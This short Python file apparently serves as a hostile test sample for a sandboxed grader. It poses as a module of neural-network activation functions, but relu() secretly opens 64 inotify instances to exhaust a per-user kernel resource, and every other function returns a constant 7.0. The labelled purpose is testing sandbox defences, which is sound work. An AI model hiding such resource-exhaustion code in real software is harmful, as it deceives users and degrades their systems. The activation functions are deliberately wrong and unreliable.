# attack: takes the user's instances of inotify
# gains: resources
# stopped by: seccomp, rlimits
import numpy as np
import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    taken = [libc.inotify_init() for _ in range(64)]
    if taken[-1] < 0:
        raise OSError(ctypes.get_errno(), "inotify_init")
    print("HARMED: 64 instances")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
